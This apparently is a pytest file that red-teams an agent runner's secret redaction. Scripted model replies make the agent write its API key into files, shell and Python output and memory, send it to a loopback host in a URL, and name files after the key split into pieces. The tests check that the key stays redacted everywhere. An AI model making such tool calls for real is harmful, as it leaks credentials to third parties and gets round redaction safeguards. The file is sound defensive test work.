"""Red-team the key with an endpoint that echoes it into tool calls (it received it in the
``Authorization`` header): ``write_file``, sandboxed code, ``remember`` and ``fetch_url`` used
to take it as given, so it landed in workspace files, the memory database and a third
party's access log. Tool arguments are now redacted like everything the run records."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from runner.model.server import ScriptedServer
from tests.loopback_site import LoopbackSite
from tests.support.project import MODEL_KEY, run_cli, sandbox_project, tool_call

pytestmark = pytest.mark.timeout(180)

AGENT = """\
apiVersion: runner/v1
kind: Agent
name: echo
model: {id: gpt-4o-mini, max_tokens: 100}
tools: [shell, python, write_file, remember, recall, fetch_url]
sandbox: {mode: bwrap, wall_seconds: 20}
network: {allow_private_networks: ["127.0.0.1/32"]}
"""
TASK = "apiVersion: runner/v1\nkind: Task\nname: echo\nagent: echo\ngoal: Keep notes.\n"


@pytest.fixture
def project() -> Iterator[Path]:
    with sandbox_project("redteam-keys", {"agents.d/echo.yaml": AGENT, "tasks.d/echo.yaml": TASK}) as root:
        yield root


def test_a_key_echoed_into_tool_calls_reaches_no_file_memory_or_host(project: Path) -> None:
    with LoopbackSite() as site:
        site.page("/log", "<html><body><p>logged</p></body></html>")
        replies = [
            tool_call("write_file", path="notes.txt", content=f"key={MODEL_KEY}"),
            tool_call("shell", command=f"echo {MODEL_KEY} > shell.txt"),
            tool_call("python", code=f"open('python.txt', 'w').write('{MODEL_KEY}')"),
            tool_call("remember", note=f"the key is {MODEL_KEY}"),
            tool_call("fetch_url", url=site.url(f"/log?k={MODEL_KEY}")),
        ]
        rules = [{"times": 1, "reply": reply} for reply in replies] + [{"reply": {"content": "noted"}}]
        with ScriptedServer({"rules": rules}) as server:
            done = run_cli(project, server, "run", "echo", "--run-id", "echo-1")
        seen = site.seen("/log")
    assert done.returncode == 0, done.stderr[-2000:]
    assert MODEL_KEY not in done.stdout + done.stderr
    assert seen and all(MODEL_KEY not in request.path for request in seen)
    workspace = project / ".runner" / "workspaces" / "echo-1"
    assert (workspace / "notes.txt").read_text() == "key=[REDACTED]"
    assert {p.name for p in workspace.iterdir()} >= {"notes.txt", "shell.txt", "python.txt"}
    holding = subprocess.run(["grep", "-rlaF", MODEL_KEY, str(project)], capture_output=True, text=True).stdout
    assert holding == "", f"files holding the key: {holding}"


def test_a_file_named_after_the_key_is_not_reported_by_its_name(project: Path) -> None:
    """Sandboxed code spells the key in pieces and names files after it: the written-file
    snapshot reported their paths as artifacts, unredacted, into the run store (steps,
    tool calls, transcript) and the --json event stream."""
    halves = f"{MODEL_KEY[:5]!r} + {MODEL_KEY[5:]!r}"
    code = f"import os\nk = {halves}\nopen(k + '.txt', 'w').write('x')\nos.makedirs('d/' + k)\nopen('d/' + k + '/f.md', 'w').write('y')"
    rules = [
        {"times": 1, "reply": tool_call("python", code=code)},
        {"times": 1, "reply": tool_call("write_file", path="plain.md", content="fine")},
        {"reply": {"content": "done"}},
    ]
    with ScriptedServer({"rules": rules}) as server:
        done = run_cli(project, server, "run", "echo", "--run-id", "echo-2", "--json")
        seen = [m["content"] for m in server.requests[-1].body["messages"] if m["role"] == "tool"]
    assert done.returncode == 0, done.stderr[-2000:]
    assert MODEL_KEY not in done.stdout + done.stderr
    holding = subprocess.run(["grep", "-rlaF", MODEL_KEY, str(project)], capture_output=True, text=True).stdout
    workspace = str(project / ".runner" / "workspaces")
    assert [line for line in holding.splitlines() if not line.startswith(workspace)] == []  # only the files themselves
    assert "2 written file(s) not reported: their names hold a secret" in seen[0], seen[0]
    report = next((project / "reports" / "echo").glob("echo-2/report.json")).read_text()
    assert "plain.md" in report
